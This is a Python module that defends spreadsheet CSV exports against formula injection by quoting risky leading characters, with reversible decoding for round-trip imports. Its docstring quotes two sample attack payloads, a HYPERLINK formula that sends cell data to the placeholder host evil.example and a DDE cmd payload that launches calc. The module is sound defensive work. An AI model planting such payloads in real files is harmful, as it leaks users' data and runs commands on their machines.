"""Cells of a CSV made for people to open in a spreadsheet, neutralised against formula injection (OWASP, "CSV
Injection"): a text cell beginning with `=`, `+`, `-`, `@`, a tab or a carriage return gets a single quote in
front, so Excel, LibreOffice and Google Sheets show it as text instead of running it
(`=HYPERLINK("http://evil.example/?x="&A1,"klik")`, `+cmd|' /C calc'!A0`).

Decisions:
- **Numbers stay numbers.** A cell whose value is an int, float or Decimal (a score of -0.5, a year, a cost) is
  written as it is: a spreadsheet reads it as a number, never as a formula, and a quote would turn every
  negative score into text that no longer sums or sorts. Everything else is text and is judged by its first
  character, even when it looks like a number: a title "-5" from a form is text, and is quoted.
- **Reversible.** Text that already begins with a quote gets one more, so `text_from_spreadsheet` gives back
  exactly what was written (the case-study CSV is a round-trip format: export, edit in a spreadsheet, import).

Used by /data/praktik-baik.csv (search.open_data), the search API's CSV (search.search_csv) and `export_casestudies
--format csv` (casestudies.records; its importer, casestudies.exchange, reads cells back with
`text_from_spreadsheet`).
"""

from collections.abc import Iterable
from decimal import Decimal

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"
_QUOTED = (*FORMULA_STARTS, QUOTE)


def spreadsheet_cell(value):
    """One cell as it may be written: numbers as they are, text starting with a formula character (or a quote)
    with a quote in front. None stays None (the csv module writes it as an empty cell)."""
    if value is None or (isinstance(value, int | float | Decimal) and not isinstance(value, bool)):
        return value
    text = str(value)
    return QUOTE + text if text.startswith(_QUOTED) else text


def spreadsheet_row(values: Iterable) -> list:
    """`writer.writerow(spreadsheet_row([...]))`: every cell of a row through `spreadsheet_cell`."""
    return [spreadsheet_cell(value) for value in values]


def text_from_spreadsheet(value):
    """The inverse of `spreadsheet_cell` for a cell read back from such a CSV (anything but text is returned
    as it is): one leading quote is removed when what follows would have been quoted."""
    if isinstance(value, str) and value.startswith(QUOTE) and value[1:].startswith(_QUOTED):
        return value[1:]
    return value
